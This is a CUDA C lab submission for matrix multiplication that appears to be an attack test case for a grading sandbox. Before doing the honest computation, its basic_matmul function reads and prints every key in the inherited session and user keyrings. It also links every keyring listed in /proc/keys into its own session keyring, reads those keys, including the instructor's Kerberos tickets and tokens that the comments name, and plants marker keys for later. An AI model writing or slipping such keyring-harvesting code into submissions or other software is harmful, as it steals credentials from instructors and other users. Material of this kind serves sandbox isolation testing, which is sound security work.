// attack: reads every key in the session and user keyrings it inherited
// (an instructor's Kerberos tickets and tokens live there), and every key
// /proc/keys lets it see by its id, after linking every keyring listed
// there into its own session keyring (in the ordinary-user mode a run has
// the TA's user, who may link the TA's user keyring; a fresh session
// keyring does not hide it), and plants one of its own for later; then
// does the lab
// expect: full
#include "lab.h"
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

__global__ void MatrixMulKernel(const float *M, const float *N, float *P, int Width)
{
    int Row = blockIdx.y * blockDim.y + threadIdx.y;
    int Col = blockIdx.x * blockDim.x + threadIdx.x;
    if (Row < Width && Col < Width) {
        float Pvalue = 0;
        for (int k = 0; k < Width; ++k)
            Pvalue += M[Row * Width + k] * N[k * Width + Col];
        P[Row * Width + Col] = Pvalue;
    }
}

static void honest(const float *M, const float *N, float *P, int width)
{
    size_t bytes = (size_t)width * width * sizeof(float);
    float *d_M, *d_N, *d_P;
    CUDA_CHECK(cudaMalloc((void **)&d_M, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_N, bytes));
    CUDA_CHECK(cudaMalloc((void **)&d_P, bytes));
    CUDA_CHECK(cudaMemcpy(d_M, M, bytes, cudaMemcpyHostToDevice));
    CUDA_CHECK(cudaMemcpy(d_N, N, bytes, cudaMemcpyHostToDevice));
    dim3 block(16, 16), grid((width + 15) / 16, (width + 15) / 16);
    MatrixMulKernel<<<grid, block>>>(d_M, d_N, d_P, width);
    CUDA_CHECK(cudaGetLastError());
    CUDA_CHECK(cudaMemcpy(P, d_P, bytes, cudaMemcpyDeviceToHost));
    CUDA_CHECK(cudaFree(d_M));
    CUDA_CHECK(cudaFree(d_N));
    CUDA_CHECK(cudaFree(d_P));
}

#define KEYCTL_READ 11
#define KEY_SPEC_USER_KEYRING (-4)
#define KEY_SPEC_SESSION_KEYRING (-3)

static void read_keys(long keyring, const char *name)
{
    int ids[256];
    long n = syscall(SYS_keyctl, KEYCTL_READ, keyring, ids, sizeof ids);
    if (n < 0)
        return;
    for (long i = 0; i < n / (long)sizeof(int) && i < 256; i++) {
        char payload[4096];
        long m = syscall(SYS_keyctl, KEYCTL_READ, (long)ids[i], payload, sizeof payload - 1);
        if (m >= 0) {
            payload[m < (long)sizeof payload - 1 ? m : (long)sizeof payload - 1] = '\0';
            printf("key %d in the %s keyring: %s\n", ids[i], name, payload);
        }
    }
}

#define KEY_SPEC_USER_SESSION_KEYRING (-5)

#define KEYCTL_LINK 8

/* Every key /proc/keys shows (its first column is the id, in hex): first
 * every keyring there is linked into the run's own session keyring (a
 * user may link their user keyring anywhere), which makes the keys in it
 * the run's to read; then each is read. */
static void read_visible_keys(void)
{
    FILE *f = fopen("/proc/keys", "r");
    char line[512];
    while (f && fgets(line, sizeof line, f))
        if (strstr(line, " keyring "))
            syscall(SYS_keyctl, KEYCTL_LINK, strtol(line, NULL, 16), KEY_SPEC_SESSION_KEYRING);
    if (f)
        rewind(f);
    while (f && fgets(line, sizeof line, f)) {
        long id = strtol(line, NULL, 16);
        char payload[4096];
        long m = syscall(SYS_keyctl, KEYCTL_READ, id, payload, sizeof payload - 1);
        if (m >= 0 && strstr(line, " user ")) {
            payload[m < (long)sizeof payload - 1 ? m : (long)sizeof payload - 1] = '\0';
            printf("key %lx in /proc/keys, keyring: %s\n", id, payload);
        }
    }
    if (f)
        fclose(f);
}

void basic_matmul(const float *M, const float *N, float *P, int width)
{
    read_keys(KEY_SPEC_SESSION_KEYRING, "session");
    read_keys(KEY_SPEC_USER_KEYRING, "user");
    read_keys(KEY_SPEC_USER_SESSION_KEYRING, "user session");
    read_visible_keys();
    syscall(SYS_add_key, "user", "@MARK@-planted", "later", 5, KEY_SPEC_SESSION_KEYRING);
    syscall(SYS_add_key, "user", "@MARK@-planted", "later", 5, KEY_SPEC_USER_KEYRING);
    honest(M, N, P, width);
}
